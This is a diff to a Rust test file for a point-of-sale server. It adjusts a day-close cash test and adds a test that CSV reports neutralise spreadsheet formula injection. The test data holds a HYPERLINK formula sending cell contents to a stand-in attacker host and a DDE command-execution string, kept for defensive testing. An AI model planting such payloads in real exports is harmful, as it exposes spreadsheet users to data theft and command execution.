@@ -236,11 +236,12 @@ fn sell_a_month(till: &Till, sim: &SimServer) {
     issue(till, &format!("/api/v1/invoice/cancel/{}", cancelled_noncash["id"]), &json!({}));
     issue(till, &format!("/api/v1/invoice/cancel/{}", cancelled_order["id"]), &json!({}));
 
-    // The day closes with 10 lek missing.
-    let balance =
-        till.server.get("/api/v1/cash-register/balance", token).data(200)["balance"].as_f64().unwrap();
+    // The day closes with 10 lek missing from what the drawer should hold (its banknotes: the
+    // card payments are not in it).
+    let today = till.server.get("/api/v1/owner/today", token).data(200).clone();
+    let expected = today["tills"][0]["day"]["expected"].as_f64().unwrap();
     till.server
-        .post_json("/api/v1/cash-register/close-balance", token, &json!({"counted": balance - 10.0}))
+        .post_json("/api/v1/cash-register/close-balance", token, &json!({"counted": expected - 10.0}))
         .data(200);
 
     // The CIS goes away: the last receipt waits for it (and opens a new day). The till counts
@@ -693,4 +694,81 @@ fn the_reports_budget_is_thirty_a_minute() {
     assert!(reply.header("retry-after").is_some());
     // Other groups are not touched by it.
     issue(&till, "/api/v1/invoice/cash", &coffee_and_water("still-selling"));
+}
+
+/// The cells of a CSV answer (after its byte-order mark), as a spreadsheet reads the file.
+fn csv_cells(text: &str) -> Vec<Vec<String>> {
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect()
+}
+
+#[test]
+fn a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text_and_amounts_stay_numbers() {
+    let sim = SimServer::start();
+    let till = open_till_with(&sim, |args| args.limits = REPORT_LIMITS.parse().unwrap());
+    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
+    let names = [formula, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "-37.50", "'quoted"];
+    let lines: Vec<Value> = names
+        .iter()
+        .enumerate()
+        .map(|(i, name)| line(name, &format!("@C{i}"), 1.0, 10.0, 10.0, 20.0))
+        .collect();
+    let body = json!({"internalId": "formulas", "lines": lines, "payment_method": "BANKNOTE"});
+    issue(&till, "/api/v1/invoice/cash", &body);
+    issue(&till, "/api/v1/invoice/cash", &coffee_and_water("plain"));
+    issue(&till, "/api/v1/invoice/cancel-by-internal-id/plain", &json!({}));
+    let day = today();
+    let period = format!("from={day}&to={day}");
+
+    let top =
+        till.server.get(&format!("/api/v1/reports/top-products?{period}&format=csv"), Some(&till.token));
+    let rows = csv_cells(&top.text);
+    let columns = &rows[0];
+    let (code, name) = (
+        columns.iter().position(|c| c == "product_code").unwrap(),
+        columns.iter().position(|c| c == "product_name").unwrap(),
+    );
+    let mut written: Vec<(String, String)> = rows[1..]
+        .iter()
+        .filter(|r| r[code].starts_with("'@C"))
+        .map(|r| (r[code].clone(), r[name].clone()))
+        .collect();
+    written.sort();
+    let mut expected: Vec<(String, String)> = names
+        .iter()
+        .enumerate()
+        .map(|(i, name)| {
+            // A name that is a number is a number to a spreadsheet too: it runs nothing.
+            let formula = name.starts_with(['=', '+', '-', '@']) && name.parse::<f64>().is_err();
+            let text = if formula { format!("'{name}") } else { name.to_string() };
+            (format!("'@C{i}"), text)
+        })
+        .collect();
+    expected.sort();
+    assert_eq!(written, expected, "every cell that starts like a formula is neutralised: {}", top.text);
+
+    // A negative amount is a number, written as one.
+    let reversals =
+        till.server.get(&format!("/api/v1/reports/reversals?{period}&format=csv"), Some(&till.token));
+    let rows = csv_cells(&reversals.text);
+    let gross = rows[0].iter().position(|c| c == "gross").unwrap();
+    assert_eq!(rows[1][gross], "-285.00", "{}", reversals.text);
+
+    // The audit trail's CSV too: a POS's request id is its own text.
+    let bearer = format!("Bearer {}", till.token);
+    let deposit = serde_json::to_vec(&json!({"amount": 5})).unwrap();
+    let reply = till.server.request(
+        "POST",
+        "/api/v1/cash-register/deposit",
+        &[("Authorization", &bearer), ("X-Request-Id", "-pos:1")],
+        Some(("application/json", &deposit)),
+    );
+    assert!(reply.status < 300, "{}", reply.text);
+    let audit = till.server.get("/api/v1/audit?format=csv", Some(&till.token));
+    let rows = csv_cells(&audit.text);
+    let request_id = rows[0].iter().position(|c| c == "request_id").unwrap();
+    assert!(rows[1..].iter().any(|r| r[request_id] == "'-pos:1"), "{}", audit.text);
+    assert!(rows[1..].iter().all(|r| r[request_id] != "-pos:1"), "{}", audit.text);
 }
